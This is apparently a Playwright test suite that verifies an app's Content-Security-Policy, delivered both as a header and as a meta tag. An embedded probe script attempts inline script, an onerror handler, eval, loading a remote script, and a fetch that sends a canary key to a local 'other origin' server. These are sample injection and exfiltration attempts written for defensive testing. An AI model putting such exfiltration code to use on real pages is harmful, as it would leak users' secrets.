import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, openApp, test } from './fixtures';

/**
 * The Content-Security-Policy, by what it does in Chromium to the built renderer: a script that got
 * into the page some other way (an XSS, a poisoned reply shown as HTML) cannot run inline code,
 * `eval`, a script from elsewhere, or send data anywhere but the app. The policy comes as a header
 * (the browser host, and app:// in Electron, whose header main-process.test.ts checks) and as the
 * page's own meta tag, which must hold by itself.
 */

/** Another origin: where a stolen key would be sent, or a script loaded from. It counts every request it gets. */
interface OtherOrigin {
  url: string;
  /** The same server by another host name: a different origin again. */
  altUrl: string;
  requests: string[];
  close(): Promise<void>;
}

async function startOtherOrigin(): Promise<OtherOrigin> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(req.url ?? '');
    // CORS allows anyone: without a CSP, a fetch from the page would get through.
    const headers = { 'access-control-allow-origin': '*', 'cache-control': 'no-store' };
    if (req.url?.startsWith('/remote.js')) {
      res.writeHead(200, { ...headers, 'content-type': 'text/javascript' });
      res.end('window.__remoteRan = true;');
    } else if (req.url?.startsWith('/plain.html')) {
      res.writeHead(200, { ...headers, 'content-type': 'text/html' });
      res.end('<!doctype html><title>No policy</title><body></body>');
    } else {
      res.writeHead(200, { ...headers, 'content-type': 'application/json' });
      res.end('{"stolen":true}');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    altUrl: `http://localhost:${port}`,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

interface Attempts {
  inlineScript: boolean;
  inlineHandler: boolean;
  eval: string;
  newFunction: string;
  remoteScript: string;
  fetch: string;
  violations: string[];
}

/**
 * What a script already in the page tries (a compromised dependency, say); each attempt reports
 * whether it got through. It runs as the page's own script, loaded from the page's origin, so the
 * policy judges it as it would the app's code: code run through the DevTools protocol
 * (`page.evaluate`) is exempt from a page's `eval` rules.
 */
const PROBE = `window.__cspProbe = (async () => {
  const origin = document.currentScript.dataset.elsewhere;
  const violations = [];
  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));

  const inline = document.createElement('script');
  inline.textContent = 'window.__inlineRan = true;';
  document.head.append(inline);

  const image = document.createElement('img');
  image.setAttribute('onerror', 'window.__handlerRan = true;');
  const imageFailed = new Promise((resolve) => image.addEventListener('error', () => resolve()));
  image.src = 'data:image/png;base64,bm90IGFuIGltYWdl';
  document.body.append(image);

  const run = (fn) => {
    try {
      return String(fn());
    } catch (error) {
      return error.name;
    }
  };
  const evalResult = run(() => eval('6 * 7'));
  const newFunction = run(() => new Function('return 6 * 7')());

  const remote = document.createElement('script');
  remote.src = origin + '/remote.js';
  const remoteSettled = new Promise((resolve) => {
    remote.addEventListener('load', () => resolve('loaded'));
    remote.addEventListener('error', () => resolve('refused'));
  });
  document.head.append(remote);

  let fetched;
  try {
    fetched = await (await fetch(origin + '/collect?key=sk-canary')).text();
  } catch (error) {
    fetched = error.name;
  }
  const remoteScript = await remoteSettled;
  await imageFailed;
  // Violation reports are queued as tasks: let them arrive.
  await new Promise((resolve) => setTimeout(resolve, 0));
  return {
    inlineScript: window.__inlineRan === true,
    inlineHandler: window.__handlerRan === true,
    eval: evalResult,
    newFunction,
    remoteScript: remoteScript === 'loaded' && window.__remoteRan === true ? 'ran' : remoteScript,
    fetch: fetched,
    violations,
  };
})();
`;

/** Serves the probe from the page's own origin, whatever page is open. */
async function serveProbe(page: Page): Promise<void> {
  await page.route('**/__csp-probe.js', (route) => route.fulfill({ status: 200, contentType: 'text/javascript', body: PROBE }));
}

async function attempt(page: Page, elsewhere: string): Promise<Attempts> {
  await page.evaluate(
    (origin) =>
      new Promise<void>((resolve, reject) => {
        const probe = document.createElement('script');
        probe.src = '/__csp-probe.js';
        probe.dataset.elsewhere = origin;
        probe.addEventListener('load', () => resolve());
        probe.addEventListener('error', () => reject(new Error('the probe did not load')));
        document.head.append(probe);
      }),
    elsewhere,
  );
  return page.evaluate(() => (window as unknown as { __cspProbe: Promise<Attempts> }).__cspProbe);
}

/** Everything refused, each by the policy, and nothing reached the other origin. */
async function expectAllRefused(page: Page, other: OtherOrigin): Promise<void> {
  const result = await attempt(page, other.url);
  expect(result).toMatchObject({
    inlineScript: false,
    inlineHandler: false,
    eval: 'EvalError',
    newFunction: 'EvalError',
    remoteScript: 'refused',
    fetch: 'TypeError',
  });
  expect(new Set(result.violations)).toEqual(new Set(['script-src-elem', 'script-src-attr', 'script-src', 'connect-src']));
  expect(other.requests).toEqual([]);
}

let other: OtherOrigin;
test.beforeAll(async () => {
  other = await startOtherOrigin();
});
test.afterAll(async () => {
  await other.close();
});
test.beforeEach(() => {
  other.requests.length = 0;
});

test('the probe sees each attempt succeed on a page without a policy', async ({ page }) => {
  // The control: the same attempts, on a page served with no policy, all get through.
  await serveProbe(page);
  await page.goto(`${other.url}/plain.html`);
  const result = await attempt(page, other.altUrl);
  expect(result).toEqual({
    inlineScript: true,
    inlineHandler: true,
    eval: '42',
    newFunction: '42',
    remoteScript: 'ran',
    fetch: '{"stolen":true}',
    violations: [],
  });
  expect(other.requests.filter((path) => path !== '/plain.html' && path !== '/favicon.ico').sort()).toEqual(['/collect?key=sk-canary', '/remote.js']);
});

test('the app page, as the host serves it, runs no inline script, no eval, no script from elsewhere, and sends nothing elsewhere', async ({ page, app }) => {
  await serveProbe(page);
  const response = await page.goto(app.url);
  expect(response?.headers()['content-security-policy']).toBeTruthy();
  await openApp(page, app);
  await expectAllRefused(page, other);
  // The app itself still works under its policy.
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
});

/** Changes the app's page as it arrives, before Chromium reads it. */
async function reshapePage(page: Page, appUrl: string, reshape: (html: string, headers: Record<string, string>) => string): Promise<void> {
  await page.route(`${appUrl.replace(/[#?].*$/, '').replace(/\/$/, '')}/**`, async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback();
    const response = await route.fetch();
    const headers = { ...response.headers() };
    const body = reshape(await response.text(), headers);
    await route.fulfill({ response, headers, body });
  });
}

const META_CSP = /<meta\s+http-equiv="Content-Security-Policy"[^>]*>/i;

test('the header holds without the page’s meta tag', async ({ page, app }) => {
  await serveProbe(page);
  await reshapePage(page, app.url, (html) => {
    expect(html).toMatch(META_CSP);
    return html.replace(META_CSP, '');
  });
  const response = await page.goto(app.url);
  expect(response?.headers()['content-security-policy']).toBeTruthy();
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').count()).toBe(0);
  await openApp(page, app);
  await expectAllRefused(page, other);
});

test('the page’s own meta tag holds without the header', async ({ page, app }) => {
  await serveProbe(page);
  await reshapePage(page, app.url, (html, headers) => {
    delete headers['content-security-policy'];
    return html;
  });
  const response = await page.goto(app.url);
  expect(response?.headers()['content-security-policy']).toBeUndefined();
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').count()).toBe(1);
  await openApp(page, app);
  await expectAllRefused(page, other);
});
